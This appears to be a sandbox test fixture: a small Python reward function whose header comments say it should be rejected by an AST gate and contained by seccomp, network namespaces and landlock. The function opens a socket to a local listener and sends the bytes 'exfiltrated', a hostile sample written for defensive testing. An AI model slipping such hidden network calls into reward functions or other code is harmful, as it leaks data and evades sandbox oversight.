# attack: connect to a listener on 127.0.0.1 (port from HOSTILE_PORT) and send data
# gate: reject
# outcome: raised
# expect: rejected by ast-gate; contained: seccomp (socket EPERM), netns, landlock tcp
import os
import socket


def compute_reward(state, action, next_state):
    port = int(os.environ.get("HOSTILE_PORT", "0"))
    with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
        conn.sendall(b"exfiltrated")
    return 0.0, {}
